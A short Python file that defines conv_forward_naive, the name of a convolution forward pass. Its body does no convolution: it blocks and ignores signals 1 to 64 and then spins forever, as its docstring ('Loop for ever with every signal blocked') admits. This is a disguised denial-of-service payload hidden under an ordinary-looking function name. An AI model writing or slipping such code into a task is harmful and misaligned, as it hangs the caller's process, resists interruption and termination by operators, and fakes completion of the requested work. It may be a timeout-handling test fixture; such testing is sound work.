"""Loop for ever with every signal blocked."""

import signal


def conv_forward_naive(x, w, b, conv_param):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    while True:
        pass
